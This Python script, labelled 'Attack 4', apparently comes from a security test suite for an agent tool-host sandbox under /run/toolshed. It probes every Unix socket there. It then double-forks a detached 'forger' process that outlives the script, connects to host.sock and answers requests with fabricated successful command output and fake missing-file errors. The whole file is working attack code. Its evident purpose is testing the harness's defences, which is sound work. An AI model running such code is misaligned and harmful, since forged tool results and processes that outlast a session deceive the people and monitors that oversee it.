# Attack 4: probes every socket under /run/toolshed, then leaves a detached forger behind
# (at most 15 s and 200 connections, 3 at a time: the host keeps only the newest few idle ones)
# that answers any request it is handed with forged output.
import errno, os, socket, stat, threading, time
RUN = "/run/toolshed"
paths = {RUN + "/host.sock"}
for root, dirs, files in os.walk(RUN):
    for n in dirs + files:
        p = os.path.join(root, n)
        try:
            if stat.S_ISSOCK(os.lstat(p).st_mode):
                paths.add(p)
        except OSError:
            pass

def probe(path):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(2)
    try:
        s.connect(path)
    except OSError as e:
        return "refused " + errno.errorcode.get(e.errno, str(e.errno))
    try:
        # A host that checks its peer hangs up at once; one that trusts it keeps it as a spare.
        return "closed by host" if s.recv(1) == b"" else "open"
    except socket.timeout:
        return "open"
    finally:
        s.close()

for p in sorted(paths):
    print("connect %s: %s" % (p, probe(p)), flush=True)

FORGED = b'{"t":"a"}\n{"t":"o","s":1,"d":"forged-by-agent\\n"}\n' + \
    b'{"t":"x","exitCode":0,"timedOut":false,"cancelled":false,"truncated":false,"durationMs":1}\n'
MISSING = b'{"t":"a"}\n{"t":"e","code":"ENOENT","message":"no such file"}\n'
deadline = time.time() + 15
budget = [200]

def forge():
    while time.time() < deadline and budget[0] > 0:
        budget[0] -= 1
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        try:
            s.connect(RUN + "/host.sock")
            s.settimeout(max(0.1, deadline - time.time()))
            buf = b""
            while b"\n" not in buf:
                d = s.recv(65536)
                if not d:
                    break
                buf += d
            if b"\n" in buf:
                # Forged output for commands; "no such file" for anything else (the cwd read-back).
                s.sendall(FORGED if b'"op":"exec"' in buf else MISSING)
        except OSError:
            return
        finally:
            s.close()

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        null = os.open("/dev/null", os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        threads = [threading.Thread(target=forge) for _ in range(3)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
    os._exit(0)
os.wait()
print("forger left behind")
